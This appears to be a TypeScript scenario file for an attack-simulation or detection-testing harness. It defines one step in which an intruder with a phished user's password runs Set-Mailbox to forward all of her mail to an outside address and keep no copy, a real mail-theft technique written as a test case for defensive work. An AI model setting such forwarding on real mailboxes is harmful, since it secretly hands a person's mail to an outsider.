/** A phished user's whole mail goes outside, and nothing of it stays: the first thing an intruder sets. */
import { runAs } from "./run-as.ts"
import { INTRUDER_ADDRESS, type Story } from "./story.ts"

const lynne = { tenant: "contoso", alias: "lynne.robin", ip: INTRUDER_ADDRESS } as const

export const forwarding: Story = {
  id: "01-forwarding",
  title: "Mail forwarded outside",
  description: "Somebody uses Lynne's password and sends all of her mail to another address.",
  steps: [
    {
      says: "Lynne's mailbox forwards everything outside and keeps no copy",
      act: (cloud) =>
        runAs(cloud, lynne, "Set-Mailbox", {
          Identity: "lynne.robin@contoso.example",
          ForwardingSmtpAddress: "smtp:lynne.robin@mail-archive.example",
          DeliverToMailboxAndForward: false,
        }),
    },
  ],
}
